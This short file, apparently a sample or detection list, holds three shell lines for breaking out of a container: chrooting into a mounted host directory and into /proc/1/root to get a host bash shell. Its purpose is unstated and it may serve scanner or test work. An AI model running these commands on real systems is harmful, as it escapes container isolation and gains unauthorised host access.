# SPDX-License-Identifier: Apache-2.0
# hits: 2
mkdir -p /host
chroot /host sh -c id
chroot /proc/1/root bash
